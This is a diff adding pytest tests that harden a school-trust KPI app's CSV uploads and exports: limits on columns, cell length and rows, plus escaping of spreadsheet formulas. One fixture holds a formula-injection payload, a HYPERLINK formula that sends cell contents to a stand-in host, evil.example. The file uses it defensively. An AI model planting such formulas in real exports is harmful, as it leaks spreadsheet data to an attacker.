@@ -1,13 +1,17 @@
 """CSV uploads: every problem reported with its line, a preview that saves nothing, and
 all-or-nothing saving that checks the text again."""
 
+import csv
+import io
+import time
 from decimal import Decimal as D
 
 import pytest
 
-from kpis.csv_import import decode, parse_number, parse_upload
+from kpis.csv_import import MAX_ROWS, decode, parse_number, parse_upload
 from kpis.models import Measurement
 from tests.snapshot import snapshot
+from trustplan.core import csvcells
 from trustplan.core.permissions import Perms
 
 HEADER = "kpi,period,school,value,comparator,note\n"
@@ -282,3 +286,123 @@ def test_the_template_lists_what_the_user_may_enter(client, mine):
         "kpi,period,school,value,comparator,note",
         f"Attendance,Spring 2019-20,{mine.schools[0].code},,,",
     ]
+
+
+# ---------------------------------------------------------------- uploads a lead cannot abuse
+
+
+def test_a_header_of_60000_columns_is_refused_at_once_naming_the_limit(mine):
+    header = ",".join(f"column {n}" for n in range(60_000)) + "\n"
+
+    started = time.perf_counter()
+    upload = parse(mine, header + "In-year surplus,Spring 2019-20,,1.4\n")
+    seconds = time.perf_counter() - started
+
+    assert seconds < 2  # 17 ms here; over three minutes when each column was counted
+    assert [(e.line, e.message) for e in upload.errors] == [
+        (
+            1,
+            "The header line cannot be used: it has 60,000 cells; a line of this file has at "
+            "most 20 (the columns are kpi, period, school, value, comparator, note).",
+        )
+    ]
+
+
+def test_a_header_of_20_repeated_columns_is_checked_in_one_pass(mine):
+    upload = parse(mine, ",".join(["kpi", "period", "value"] + ["note"] * 17) + "\n")
+
+    assert upload.errors[0].message == (
+        "The header line is wrong: column note appears more than once."
+    )
+
+
+def test_a_line_too_wide_or_with_a_cell_too_long_is_reported_with_its_line(mine):
+    text = (
+        HEADER
+        + "In-year surplus,Spring 2019-20,,1.4" + "," * 40 + "\n"
+        + "In-year surplus,Spring 2019-20,,1.4,," + "x" * 1_001 + "\n"
+        + "In-year surplus,Spring 2019-20,,1.4,," + "y" * 200_000 + "\n"
+    )  # fmt: skip
+
+    upload = parse(mine, text)
+
+    assert [(e.line, e.message) for e in upload.errors] == [
+        (2, "This line cannot be used: it has 44 cells; a line of this file has at most 20 "
+            "(the columns are kpi, period, school, value, comparator, note)."),
+        (3, "This line cannot be used: a cell is 1,001 characters long; a cell is at most "
+            "1,000."),
+        (4, "This line cannot be read as CSV: a cell is longer than 1,000 characters, the most "
+            "a cell may be."),
+    ]  # fmt: skip
+    assert upload.rows == []
+
+
+def test_rows_without_values_count_towards_the_row_limit(mine):
+    code = mine.schools[0].code
+    text = HEADER + f"Attendance,Spring 2019-20,{code},,,\n" * (MAX_ROWS + 1)
+
+    upload = parse(mine, text)
+
+    assert [(e.line, e.message) for e in upload.errors] == [
+        (MAX_ROWS + 2, "The file has more than 5,000 rows; split it into parts.")
+    ]
+
+
+def test_the_template_writes_a_formula_looking_name_as_text_and_reads_it_back(client, mine):
+    from kpis.services import kpi_create
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    kpi_create(
+        trust=mine.trust, name=formula, unit="percentage", direction="higher", scope="trust",
+        frequency="termly", objective=mine.objectives[0], tolerance=D("1"), acting_user=None,
+    )  # fmt: skip
+    client.force_login(mine.users["ceo"])
+
+    text = client.get(f"/t/{mine.trust.slug}/kpis/upload/template.csv").content.decode()
+
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells and formula not in cells
+    assert not [cell for cell in cells if cell.startswith(csvcells.FORMULA_STARTS)]
+    # Filled in and uploaded again, the name is the KPI's own.
+    row = next(row for row in rows if row[0] == "'" + formula)
+    row[3] = "7"
+    filled = io.StringIO()
+    csv.writer(filled).writerows([rows[0], row])
+    upload = parse(mine, filled.getvalue())
+    assert upload.errors == []
+    assert [(r.kpi.name, r.value) for r in upload.rows] == [(formula, D("7"))]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+SUM(A1)", "'+SUM(A1)"),
+        ("-2+3", "'-2+3"),
+        ("@cmd", "'@cmd"),
+        ("\tTabbed", "'\tTabbed"),
+        ("\rReturn", "'\rReturn"),
+        ("-1.5", "-1.5"),
+        ("Attendance", "Attendance"),
+        (None, ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
+    assert csvcells.safe_cell(value) == written
+    assert csvcells.read_cell(written) == ("" if value is None else value)
+
+
+def test_every_csv_the_product_writes_goes_through_the_safe_writer():
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    writers = [
+        str(path.relative_to(root))
+        for app in ["boardpacks", "governance", "kpis", "objectives", "plans", "schools",
+                    "trustplan"]
+        for path in (root / app).rglob("*.py")
+        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
+    ]  # fmt: skip
+
+    assert writers == ["trustplan/core/csvcells.py"]
